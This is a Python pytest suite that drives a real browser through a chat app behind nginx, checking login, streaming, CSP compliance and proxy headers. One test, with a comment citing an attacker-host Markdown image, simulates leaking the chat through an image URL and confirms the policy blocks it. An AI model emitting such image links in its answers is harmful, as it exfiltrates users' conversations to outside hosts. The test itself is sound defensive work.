"""The hosted setup in a real browser: login on, behind deploy/nginx.conf on a port other than
80 (as compose's http://localhost:8080 is). The chat page loads, opens its Socket.IO connection
through the proxy and streams an answer, and so does the SSE page, with no Content-Security-
Policy violation; an image from another site, as a Markdown image in an answer would be, is
never requested."""

from __future__ import annotations

import http.server
import threading
from collections.abc import Iterator
from pathlib import Path

import httpx2
import pytest

from streamchat.hosting.users import UsersFile
from tests.harness import REPO, AppProcess
from tests.test_scaleout import nginx_proxy

pytestmark = [pytest.mark.browser, pytest.mark.integration]

SECRET = "a-test-secret-that-is-long-enough-for-hs256-0123456789"
# Collects every violation the page reports, from before its first script runs.
WATCH_CSP = """
window.__csp = [];
document.addEventListener('securitypolicyviolation', (e) => {
  window.__csp.push(e.violatedDirective + ' ' + e.blockedURI);
});
"""


@pytest.fixture(scope="module")
def hosted(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    users = Path(tmp_path_factory.mktemp("hosted")) / "users.txt"
    UsersFile(users).add("alice", "correct horse battery")
    env = {
        "CHAINLIT_AUTH_SECRET": SECRET,
        "AUTH_USERS_FILE": str(users),
        "DATABASE_URL": "off",
        "OFFLINE_TPS": "200",
        "OFFLINE_TTFT_MS": "20",
    }
    with AppProcess(env) as app, nginx_proxy([app.port]) as proxy_url:
        yield proxy_url


@pytest.fixture(scope="module")
def other_site() -> Iterator[tuple[str, list[str]]]:
    """Another origin on loopback that records every request it gets."""
    requested: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            requested.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://localhost:{server.server_address[1]}", requested
    finally:
        server.shutdown()
        server.server_close()


def logged_in_page(browser, proxy_url: str):
    token = httpx2.post(
        f"{proxy_url}/login",
        data={"username": "alice", "password": "correct horse battery"},
        timeout=30,
    ).cookies.get("access_token")
    assert token, "login through the proxy works"
    context = browser.new_context()
    context.add_cookies([{"name": "access_token", "value": token, "url": proxy_url}])
    context.add_init_script(WATCH_CSP)
    return context, context.new_page()


def test_a_logged_in_user_chats_through_nginx_on_a_non_default_port(browser, hosted):
    context, page = logged_in_page(browser, hosted)
    try:
        page.goto(hosted)
        page.locator("#chat-input").wait_for(timeout=30_000)
        page.locator("#chat-input").fill("What is time to first token?")
        page.locator("#chat-submit").click()
        answer = page.locator(".ai-message .message-content").last
        answer.get_by_text("tok/s", exact=False).wait_for(timeout=60_000)
        assert "first token" in answer.inner_text().lower()
        assert page.evaluate("() => window.__csp") == [], "the app's page breaks no policy rule"
    finally:
        context.close()


def test_the_sse_page_streams_through_nginx_under_the_policy(browser, hosted):
    context, page = logged_in_page(browser, hosted)
    try:
        page.goto(f"{hosted}/public/stream.html")
        page.fill("#prompt", "What is a token?")
        page.click("#send")
        page.locator("#status").filter(has_text="Done").wait_for(timeout=60_000)
        assert "token" in page.inner_text("#answer").lower()
        assert page.evaluate("() => window.__csp") == [], "its inline script runs by its hash"
    finally:
        context.close()


def test_an_image_from_another_site_is_never_requested(browser, hosted, other_site):
    site, requested = other_site
    context, page = logged_in_page(browser, hosted)
    try:
        page.goto(hosted)
        page.locator("#chat-input").wait_for(timeout=30_000)
        # What the Markdown renderer makes of ![x](https://attacker/?q=...) in an answer.
        page.evaluate(
            """(src) => new Promise((done) => {
                const img = document.createElement('img');
                img.onload = img.onerror = () => done();
                img.src = src;
                document.body.appendChild(img);
            })""",
            f"{site}/leak?q=the+chat+so+far",
        )
        page.wait_for_function("() => window.__csp.length > 0", timeout=10_000)
        assert requested == [], "the browser never asked the other site"
        assert page.evaluate("() => window.__csp") == [f"img-src {site}/leak?q=the+chat+so+far"]
        assert page.evaluate("() => fetch('/').then(r => r.headers.get('content-security-policy'))")
    finally:
        context.close()


def test_the_shipped_proxy_config_keeps_the_port_in_the_host_header():
    # The port must reach the app: its origin check compares the browser's Origin with it.
    config = (REPO / "deploy" / "nginx.conf").read_text()
    assert "proxy_set_header Host $http_host;" in config
    assert "proxy_set_header X-Forwarded-Host $http_host;" in config
